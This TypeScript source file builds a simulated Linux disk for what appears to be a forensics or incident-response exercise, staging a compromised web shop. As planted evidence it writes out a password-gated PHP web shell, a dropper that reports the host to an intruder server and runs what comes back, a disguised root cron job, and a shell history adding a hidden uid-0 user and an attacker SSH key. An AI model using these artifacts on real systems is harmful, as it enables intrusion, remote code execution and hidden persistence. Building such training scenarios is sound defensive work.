import { accessLog, authLog, cronLog, INTRUDER, loginRecords, packageLog, SHELL_URL, systemLog } from './stock-logs.ts'

/** An entry of a fresh disk. `time` is its modification time in milliseconds since 1970 UTC; `path` is relative to the root. */
export type StockEntry =
  | { kind: 'directory'; path: string; mode: number; time: number }
  | { kind: 'file'; path: string; mode: number; time: number; text: string | Uint8Array }
  | { kind: 'link'; path: string; target: string; time: number }

const DAY_MS = 86_400_000

/** Returns the entries of the disk, parents before their children. `stock-logs.ts` describes the story behind them. */
export function stockEntries(born: number, name: string): StockEntry[] {
  const installed = born - 90 * DAY_MS
  const broken = born - 2 * DAY_MS
  const directory = (path: string, mode = 0o755, time = installed): StockEntry => ({ kind: 'directory', path, mode, time })
  const file = (path: string, text: string | Uint8Array, time = installed, mode = 0o644): StockEntry => ({
    kind: 'file',
    path,
    mode,
    time,
    text,
  })
  return [
    directory('etc'),
    file('etc/hostname', `${name.toLowerCase()}\n`),
    file('etc/hosts', `127.0.0.1 localhost\n127.0.1.1 ${name.toLowerCase()}\n10.20.4.11 db.corp.example\n`),
    file('etc/os-release', 'PRETTY_NAME="Lab Linux 12"\nNAME="Lab Linux"\nVERSION_ID="12"\nID=lab\nID_LIKE=debian\n'),
    file('etc/passwd', PASSWD),
    file('etc/group', GROUP),
    file('etc/shadow', SHADOW, broken, 0o600),
    directory('etc/ssh'),
    file('etc/ssh/sshd_config', 'Port 22\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\nX11Forwarding no\n'),
    directory('etc/cron.d', 0o755, broken),
    file('etc/cron.d/e2scrub_all', '30 3 * * 0 root test -x /sbin/e2scrub_all && /sbin/e2scrub_all -A -r\n'),
    file('etc/cron.d/php-sessions', CRON, broken),
    directory('etc/nginx'),
    file('etc/nginx/shop.conf', NGINX),
    directory('etc/systemd'),
    directory('etc/systemd/system'),
    file('etc/systemd/system/shop-report.service', REPORT_SERVICE),
    file('etc/systemd/system/shop-report.timer', REPORT_TIMER),

    directory('home'),
    directory('home/mara', 0o750, broken),
    file('home/mara/.bashrc', "export EDITOR=vim\nalias ll='ls -alF'\n"),
    file('home/mara/.bash_history', HISTORY, broken, 0o600),
    file(
      'home/mara/notes.txt',
      'Shop release on Thursday.\nAsk Jonas why /var/www/shop/uploads takes .php files at all.\n',
      born - 9 * DAY_MS,
    ),
    file('home/mara/deploy.sh', '#!/bin/sh\nset -e\ncd /var/www/shop\ngit pull --ff-only\nsystemctl reload nginx\n', installed, 0o755),
    directory('home/mara/.ssh', 0o700, broken),
    file('home/mara/.ssh/authorized_keys', KEYS, broken, 0o600),
    file(
      'home/mara/.ssh/known_hosts',
      'db.corp.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx0Y2hlIGxhYidzIGRhdGFiYXNlIGhvc3Qga2V5IDAx\n',
      installed,
      0o600,
    ),
    directory('home/mara/reports'),
    file('home/mara/reports/q3 sales (final).csv', 'region,orders,revenue\nnorth,412,51230.50\nsouth,388,47911.00\n', born - 21 * DAY_MS),
    { kind: 'link', path: 'home/mara/site', target: '../../var/www/shop', time: installed },

    directory('root', 0o700),
    directory('opt'),
    directory('tmp', 0o1777, born),
    file(
      'tmp/.sess_4f1c',
      `id\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\nuname -n\n${name.toLowerCase()}\n`,
      broken + 240_000,
    ),

    directory('var'),
    directory('var/log'),
    file('var/log/auth.log', authLog(born, name), broken + DAY_MS),
    file('var/log/cron.log', cronLog(born, name), born - 300_000),
    file('var/log/dpkg.log', packageLog(installed), installed + 60_000),
    file('var/log/syslog', systemLog(born, name), born - 300_000),
    file('var/log/wtmp', loginRecords(born), broken + 720_000, 0o664),
    directory('var/log/nginx'),
    file('var/log/nginx/access.log', accessLog(born), born - 60_000),
    file('var/log/nginx/error.log', '', installed),
    directory('var/tmp', 0o1777, broken),
    directory('var/tmp/.font-unix', 0o755, broken),
    file('var/tmp/.font-unix/update', DROPPER, broken + 420_000, 0o755),
    directory('var/www'),
    directory('var/www/shop'),
    file('var/www/shop/index.php', "<?php\nrequire __DIR__ . '/lib/shop.php';\necho Shop\\front($_GET);\n"),
    directory('var/www/shop/lib'),
    file('var/www/shop/lib/shop.php', SHOP),
    directory('var/www/shop/uploads', 0o775, broken),
    file(
      'var/www/shop/uploads/logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#07c"/></svg>\n',
    ),
    file(`var/www/shop${SHELL_URL}`, WEB_SHELL, broken),
  ]
}

const PASSWD = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
mara:x:1000:1000:Mara Lind:/home/mara:/bin/bash
support:x:0:1001::/home/support:/bin/bash
`

const GROUP = `root:x:0:
sudo:x:27:mara
www-data:x:33:
mara:x:1000:
support:x:1001:
`

const SHADOW = `root:!:19600:0:99999:7:::
www-data:*:19600:0:99999:7:::
mara:!:19600:0:99999:7:::
support:!:20100:0:99999:7:::
`

const CRON = `# Cleans up sessions of PHP
*/5 * * * * root /bin/sh -c '/var/tmp/.font-unix/update >/dev/null 2>&1'
`

const NGINX = `server {
  listen 80;
  server_name shop.example;
  root /var/www/shop;
  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; include fastcgi_params; }
}
`

const REPORT_SERVICE = `[Unit]
Description=Sums up the orders of the last hour

[Service]
Type=oneshot
User=www-data
ExecStart=/usr/bin/php /var/www/shop/lib/shop.php report
`

const REPORT_TIMER = `[Timer]
OnCalendar=hourly

[Install]
WantedBy=timers.target
`

const HISTORY = `sudo systemctl reload nginx
cd /var/www/shop && git pull --ff-only
vim notes.txt
ls -la /var/www/shop/uploads
curl -fsS http://${INTRUDER}/u -o /var/tmp/.font-unix/update
chmod 755 /var/tmp/.font-unix/update
echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys
sudo useradd -o -u 0 -g 1001 -s /bin/bash support
unset HISTFILE
`

const KEYS = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG1hcmEncyBvd24ga2V5LCBvbiBoZXIgbGFwdG9wLCBsYWI= mara@laptop
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG5vYm9keSBpbiB0aGUgY29tcGFueSBvd25zIHRoaXMga2V5= root@kali
`

const DROPPER = `#!/bin/sh
# sends what this machine is, and runs what comes back
host=${INTRUDER}
curl -fsS "http://$host/p?h=$(hostname)&u=$(id -un)" | sh
`

const SHOP = `<?php
namespace Shop;

function front(array $query): string
{
    $page = (int) ($query['page'] ?? 1);
    return "<h1>Shop</h1><p>Page $page</p>";
}
`

const WEB_SHELL = `<?php
// image cache
if (md5($_POST['k'] ?? '') !== '5f0c1b8e2ad4466f97c37c1d1f0a9be2') { http_response_code(404); exit; }
header('Content-Type: text/plain');
system($_POST['c'] . ' 2>&1');
`
